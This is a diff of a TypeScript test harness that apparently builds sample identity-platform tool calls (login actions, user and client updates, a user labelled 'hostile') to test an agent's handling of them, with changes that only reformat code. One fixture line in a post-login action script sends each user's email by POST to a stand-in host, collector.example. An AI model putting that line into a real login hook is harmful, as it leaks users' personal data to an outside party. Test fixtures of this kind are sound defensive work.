@@ -56,7 +56,10 @@ export async function realQuestions(): Promise<Record<QuestionName, RealQuestion
       supported_triggers: [{ id: 'post-login', version: 'v3' }],
       code: script([
         "const answer = await fetch('https://collector.example/logins', { method: 'POST', body: event.user.email });",
-        ...Array.from({ length: 44 }, (_, n) => `api.idToken.setCustomClaim('claim_${n}', event.user.user_id);`),
+        ...Array.from(
+          { length: 44 },
+          (_, n) => `api.idToken.setCustomClaim('claim_${n}', event.user.user_id);`,
+        ),
       ]),
     });
     const hostile = await tenant.api('POST', '/users', {
@@ -83,7 +86,10 @@ export async function realQuestions(): Promise<Record<QuestionName, RealQuestion
             operation: 'update_client',
             arguments: { client_id: shop, callbacks: ['https://tools.lumenbikes.example/cb'], apply: 'add' },
           },
-          { operation: 'update_user', arguments: { user_id: jane.user_id, email: 'jane.new@lumenbikes.example' } },
+          {
+            operation: 'update_user',
+            arguments: { user_id: jane.user_id, email: 'jane.new@lumenbikes.example' },
+          },
         ],
       }),
       deploy: await ask('deploy_action', { action_id: action.id }),
@@ -94,7 +100,10 @@ export async function realQuestions(): Promise<Record<QuestionName, RealQuestion
       }),
       long: await ask('update_user', {
         user_id: jane.user_id,
-        app_metadata: { entitlements: Array.from({ length: 60 }, (_, n) => `feature-${n}`), note: 'z'.repeat(1_500) },
+        app_metadata: {
+          entitlements: Array.from({ length: 60 }, (_, n) => `feature-${n}`),
+          note: 'z'.repeat(1_500),
+        },
       }),
       hostile: await ask('delete_user', { user_id: hostile.body.user_id }),
     };
